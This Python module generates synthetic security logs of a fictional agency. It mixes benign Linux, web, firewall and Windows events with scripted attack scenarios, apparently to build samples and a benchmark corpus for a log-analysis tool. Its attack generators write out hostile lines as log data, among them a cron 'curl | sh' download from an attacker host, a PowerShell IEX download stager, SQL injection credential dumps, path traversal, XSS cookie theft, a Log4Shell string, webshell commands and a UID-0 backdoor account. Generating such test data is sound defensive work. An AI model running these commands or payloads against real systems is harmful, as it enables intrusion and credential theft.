"""Realistic agency logs, generated deterministically: benign traffic with attacks mixed in.

Used to write the bundled ``samples/`` (small, every attack present) and the benchmark corpus
(millions of lines). Addresses are from the documentation ranges (RFC 5737) and private
ranges, so no generated log names a real host.

    python -m bench.corpus samples samples/          # rewrite the bundled samples
    python -m bench.corpus linux 1000000 out.log     # one large file of one kind
"""

from __future__ import annotations

import argparse
import gzip
import json
import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

STAFF = ["thanhnv", "huongtt", "minhld", "lanpt", "quanghv", "deploy", "backup"]
HOSTS = ["web01", "web02", "db01", "mail01"]
INTERNAL = [f"10.20.{net}.{host}" for net in (1, 2, 5) for host in (3, 14, 27, 41, 88)]
ATTACKERS = ["203.0.113.50", "198.51.100.7", "203.0.113.77", "198.51.100.44"]
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
]
PAGES = [
    "/",
    "/tintuc/chitiet.php?id={n}",
    "/vanban/tra-cuu?q=quyet+dinh+{n}",
    "/lienhe",
    "/static/css/site.css",
    "/static/js/app.js",
    "/images/banner{n}.jpg",
    "/dichvucong/hoso?ma=HS{n}",
]
LOCAL_ZONE = timedelta(hours=7)


class Clock:
    """Advancing time, so generated logs read in order."""

    def __init__(self, start: datetime, rng: random.Random) -> None:
        self.now = start
        self.rng = rng

    def tick(self, max_seconds: float = 20.0) -> datetime:
        self.now += timedelta(seconds=self.rng.uniform(0.01, max_seconds))
        return self.now


def _bsd(moment: datetime) -> str:
    local = moment + LOCAL_ZONE
    return f"{local:%b} {local.day:>2} {local:%H:%M:%S}"


def linux_benign(rng: random.Random, clock: Clock) -> str:
    host = rng.choice(HOSTS)
    stamp = _bsd(clock.tick())
    pid = rng.randint(1000, 65000)
    user = rng.choice(STAFF)
    choice = rng.random()
    if choice < 0.35:
        return f"{stamp} {host} sshd[{pid}]: Accepted publickey for {user} from {rng.choice(INTERNAL)} port {rng.randint(30000, 65000)} ssh2: ED25519 SHA256:q8Zk3{pid}"
    if choice < 0.5:
        return f"{stamp} {host} sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"
    if choice < 0.6:
        return f"{stamp} {host} sshd[{pid}]: Disconnected from user {user} {rng.choice(INTERNAL)} port {rng.randint(30000, 65000)}"
    if choice < 0.75:
        return f"{stamp} {host} CRON[{pid}]: (root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily)"
    if choice < 0.85:
        return f"{stamp} {host} sudo:   {user} : TTY=pts/{rng.randint(0, 4)} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
    if choice < 0.93:
        return f"{stamp} {host} systemd[1]: Started Session {pid} of User {user}."
    return f"{stamp} {host} sshd[{pid}]: Failed password for {user} from {rng.choice(INTERNAL)} port {rng.randint(30000, 65000)} ssh2"


def linux_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
    """Brute force on root, then a root login, a UID-0 backdoor account and cron persistence."""
    attacker = rng.choice(ATTACKERS)
    host = rng.choice(HOSTS)
    pid = rng.randint(1000, 65000)
    for name in ("admin", "oracle", "test", "ubuntu"):
        yield f"{_bsd(clock.tick(1))} {host} sshd[{pid}]: Invalid user {name} from {attacker} port {rng.randint(30000, 65000)}"
    for _ in range(rng.randint(8, 20)):
        yield f"{_bsd(clock.tick(1))} {host} sshd[{pid}]: Failed password for root from {attacker} port {rng.randint(30000, 65000)} ssh2"
    yield f"{_bsd(clock.tick(1))} {host} sshd[{pid}]: Disconnecting: Too many authentication failures for root [preauth]"
    yield f"{_bsd(clock.tick(1))} {host} sshd[{pid + 1}]: Accepted password for root from {attacker} port {rng.randint(30000, 65000)} ssh2"
    yield f"{_bsd(clock.tick(5))} {host} useradd[{pid + 2}]: new user: name=sysbackup, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1"
    yield f"{_bsd(clock.tick(5))} {host} usermod[{pid + 3}]: add 'sysbackup' to group 'sudo'"
    yield f"{_bsd(clock.tick(5))} {host} crontab[{pid + 4}]: (root) REPLACE (root)"
    yield f"{_bsd(clock.tick(60))} {host} CRON[{pid + 5}]: (root) CMD (curl -fsSL http://{attacker}/k.sh | sh)"


def _clf(moment: datetime) -> str:
    local = moment + LOCAL_ZONE
    return f"{local:%d/%b/%Y:%H:%M:%S} +0700"


def web_benign(rng: random.Random, clock: Clock) -> str:
    page = rng.choice(PAGES).format(n=rng.randint(1, 4000))
    status, size = (200, rng.randint(300, 90000)) if rng.random() < 0.93 else (404, 162)
    return (
        f'{rng.choice(INTERNAL)} - - [{_clf(clock.tick(2))}] "GET {page} HTTP/1.1" {status} {size} '
        f'"https://sotttt.example.gov.vn/" "{rng.choice(BROWSERS)}"'
    )


def web_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
    """A scanner run: probing, SQL injection with sqlmap, traversal, webshell, Log4Shell."""
    attacker = rng.choice(ATTACKERS)
    sqlmap = "sqlmap/1.7.2#stable (https://sqlmap.org)"
    browser = BROWSERS[0]
    requests = [
        ("GET /.env HTTP/1.1", 404, 162, browser),
        ("GET /.git/config HTTP/1.1", 404, 162, browser),
        ("GET /phpmyadmin/index.php HTTP/1.1", 404, 162, browser),
        ("GET /wp-login.php HTTP/1.1", 404, 162, browser),
        ("GET /tintuc/chitiet.php?id=15%27%20AND%201%3D1--%20 HTTP/1.1", 200, 5120, sqlmap),
        (
            "GET /tintuc/chitiet.php?id=15%20UNION%20ALL%20SELECT%20NULL,CONCAT(username,0x3a,password),NULL%20FROM%20users--%20 HTTP/1.1",
            200,
            5302,
            sqlmap,
        ),
        ("GET /tintuc/chitiet.php?id=15%20AND%20SLEEP(5) HTTP/1.1", 200, 5120, sqlmap),
        ("GET /download.php?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1", 200, 1832, browser),
        (
            "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1",
            200,
            1043,
            browser,
        ),
        (
            "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D HTTP/1.1",
            200,
            9000,
            browser,
        ),
        ("POST /uploads/2026/03/cmd.php HTTP/1.1", 200, 48, browser),
        ("GET /uploads/2026/03/cmd.php?cmd=whoami HTTP/1.1", 200, 9, browser),
    ]
    for request, status, size, agent in requests:
        yield f'{attacker} - - [{_clf(clock.tick(1))}] "{request}" {status} {size} "-" "{agent}"'


def cef_benign(rng: random.Random, clock: Clock) -> str:
    return (
        f"<134>{_bsd(clock.tick(2))} fw-hq01 CEF:0|Fortinet|FortiGate|7.2|0000000013|traffic allowed|1|"
        f"src={rng.choice(INTERNAL)} spt={rng.randint(30000, 65000)} dst=10.20.0.1 dpt=443 proto=TCP act=accept "
        f"app=HTTPS in={rng.randint(200, 9000)} out={rng.randint(200, 90000)}"
    )


def cef_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
    attacker = rng.choice(ATTACKERS)
    for port in (22, 23, 445, 3389, 5985):
        yield (
            f"<134>{_bsd(clock.tick(1))} fw-hq01 CEF:0|Fortinet|FortiGate|7.2|0000000013|traffic denied|5|"
            f"src={attacker} spt={rng.randint(30000, 65000)} dst=10.20.0.10 dpt={port} proto=TCP act=deny"
        )
    yield (
        f"<134>{_bsd(clock.tick(1))} ids-hq01 CEF:0|Suricata|Suricata|7.0|2024897|ET EXPLOIT Apache Struts OGNL RCE|9|"
        f"src={attacker} spt=44123 dst=10.20.1.15 dpt=8080 proto=TCP act=alert"
    )
    yield (
        f"<134>{_bsd(clock.tick(1))} waf-hq01 CEF:0|F5|ASM|16.1|200002835|SQL Injection Attempt|8|"
        f"src={attacker} dst=10.20.1.20 request=/tintuc/chitiet.php?id\\=1 UNION SELECT requestMethod=GET act=blocked"
    )
    yield (
        f"<134>{_bsd(clock.tick(30))} ids-hq01 CEF:0|Suricata|Suricata|7.0|2027760|ET MALWARE Cobalt Strike Beacon Observed|10|"
        f"src=10.20.3.41 spt=50112 dst=198.51.100.99 dpt=443 proto=TCP act=alert"
    )


def _winlogbeat(
    moment: datetime, code: int, channel: str, provider: str, host: str, data: dict
) -> str:
    return json.dumps(
        {
            "@timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
            "host": {"name": host},
            "winlog": {
                "channel": channel,
                "event_id": code,
                "provider_name": provider,
                "computer_name": host,
                "record_id": int(moment.timestamp()),
                "event_data": data,
            },
        },
        ensure_ascii=False,
    )


SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
POWERSHELL = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")
# (image, command line, parent image) as a healthy desktop starts them.
BENIGN_PROCESSES = [
    (
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "C:\\Windows\\System32\\services.exe",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "D:\\VanBan\\CongVan.docx"',
        "C:\\Windows\\explorer.exe",
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    ),
    (
        "C:\\Windows\\System32\\notepad.exe",
        "notepad.exe C:\\Users\\Public\\ghichu.txt",
        "C:\\Windows\\explorer.exe",
    ),
]
WINDOWS_HOSTS = ["PC-KETOAN-01.sotttt.local", "PC-VANTHU-03.sotttt.local", "SRV-AD01.sotttt.local"]


def windows_benign(rng: random.Random, clock: Clock) -> str:
    host = rng.choice(WINDOWS_HOSTS)
    user = rng.choice(STAFF)
    choice = rng.random()
    if choice < 0.5:
        return _winlogbeat(
            clock.tick(),
            4624,
            *SECURITY,
            host,
            {
                "TargetUserName": user,
                "TargetDomainName": "SOTTTT",
                "LogonType": "3",
                "IpAddress": rng.choice(INTERNAL),
                "LogonProcessName": "Kerberos",
                "AuthenticationPackageName": "Kerberos",
            },
        )
    if choice < 0.8:
        image, command_line, parent = rng.choice(BENIGN_PROCESSES)
        return _winlogbeat(
            clock.tick(),
            1,
            *SYSMON,
            host,
            {
                "Image": image,
                "CommandLine": command_line,
                "ParentImage": parent,
                "User": f"SOTTTT\\{user}",
                "IntegrityLevel": "Medium",
                "OriginalFileName": image.rsplit("\\", 1)[1],
            },
        )
    if choice < 0.9:
        return _winlogbeat(
            clock.tick(),
            4625,
            *SECURITY,
            host,
            {"TargetUserName": user, "LogonType": "2", "IpAddress": "-", "Status": "0xc000006d"},
        )
    return _winlogbeat(
        clock.tick(),
        4104,
        *POWERSHELL,
        host,
        {
            "ScriptBlockText": "Get-ChildItem C:\\Reports -Filter *.xlsx | Select-Object Name",
            "ScriptBlockId": str(rng.randint(1, 10**6)),
        },
    )


def windows_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
    """Password spraying, an RDP logon from outside, an encoded PowerShell stager, new admin."""
    attacker = rng.choice(ATTACKERS)
    host = WINDOWS_HOSTS[0]
    for user in STAFF:
        yield _winlogbeat(
            clock.tick(1),
            4625,
            *SECURITY,
            host,
            {
                "TargetUserName": user,
                "LogonType": "10",
                "IpAddress": attacker,
                "Status": "0xc000006a",
            },
        )
    yield _winlogbeat(
        clock.tick(1),
        4624,
        *SECURITY,
        host,
        {
            "TargetUserName": "thanhnv",
            "LogonType": "10",
            "IpAddress": attacker,
            "LogonProcessName": "User32",
        },
    )
    yield _winlogbeat(
        clock.tick(5),
        1,
        *SYSMON,
        host,
        {
            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
            "User": "SOTTTT\\thanhnv",
            "OriginalFileName": "PowerShell.EXE",
        },
    )
    yield _winlogbeat(
        clock.tick(1),
        4104,
        *POWERSHELL,
        host,
        {
            "ScriptBlockText": f"IEX (New-Object Net.WebClient).DownloadString('http://{attacker}/a.ps1')",
            "ScriptBlockId": "77",
        },
    )
    yield _winlogbeat(
        clock.tick(30),
        4720,
        *SECURITY,
        "SRV-AD01.sotttt.local",
        {"TargetUserName": "support01", "SubjectUserName": "thanhnv"},
    )
    yield _winlogbeat(
        clock.tick(5),
        4732,
        *SECURITY,
        "SRV-AD01.sotttt.local",
        {
            "TargetUserName": "Administrators",
            "MemberSid": "S-1-5-21-1-2-3-1109",
            "SubjectUserName": "thanhnv",
        },
    )
    yield _winlogbeat(
        clock.tick(60),
        1102,
        "Security",
        "Microsoft-Windows-Eventlog",
        host,
        {"SubjectUserName": "thanhnv"},
    )


KINDS: dict[
    str,
    tuple[Callable[[random.Random, Clock], str], Callable[[random.Random, Clock], Iterator[str]]],
] = {
    "linux": (linux_benign, linux_attack),
    "web": (web_benign, web_attack),
    "cef": (cef_benign, cef_attack),
    "windows": (windows_benign, windows_attack),
}


def generate(kind: str, lines: int, attacks: int, seed: int = 7) -> Iterator[str]:
    """``lines`` benign lines with ``attacks`` attack scenarios spread evenly among them."""
    rng = random.Random(f"{kind}-{seed}")
    clock = Clock(datetime(2026, 3, 2, 1, 0, tzinfo=UTC), rng)
    benign, attack = KINDS[kind]
    spacing = max(lines // (attacks + 1), 1)
    for index in range(lines):
        if attacks and index % spacing == spacing - 1 and index // spacing < attacks:
            yield from attack(rng, clock)
        yield benign(rng, clock)


def write_samples(folder: Path) -> None:
    plan = {
        "linux/auth.log": ("linux", 400, 1),
        "web/access.log": ("web", 600, 1),
        "firewall/fortigate-cef.log": ("cef", 300, 1),
        "windows/winlogbeat-security.json": ("windows", 300, 1),
    }
    for name, (kind, lines, attacks) in plan.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("\n".join(generate(kind, lines, attacks)) + "\n", encoding="utf-8")
    # An older, rotated web log: shows that gzip input is read like any other file.
    rotated = folder / "web/access.log.1.gz"
    with gzip.open(rotated, "wt", encoding="utf-8") as handle:
        handle.write("\n".join(generate("web", 300, 0, seed=8)) + "\n")


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    commands = parser.add_subparsers(dest="command", required=True)
    samples = commands.add_parser("samples")
    samples.add_argument("folder", type=Path)
    for kind in KINDS:
        one = commands.add_parser(kind)
        one.add_argument("lines", type=int)
        one.add_argument("out", type=Path)
        one.add_argument("--attacks", type=int, default=100)
    args = parser.parse_args()
    if args.command == "samples":
        write_samples(args.folder)
        return
    with args.out.open("w", encoding="utf-8") as handle:
        for line in generate(args.command, args.lines, args.attacks):
            handle.write(line + "\n")


if __name__ == "__main__":
    main()
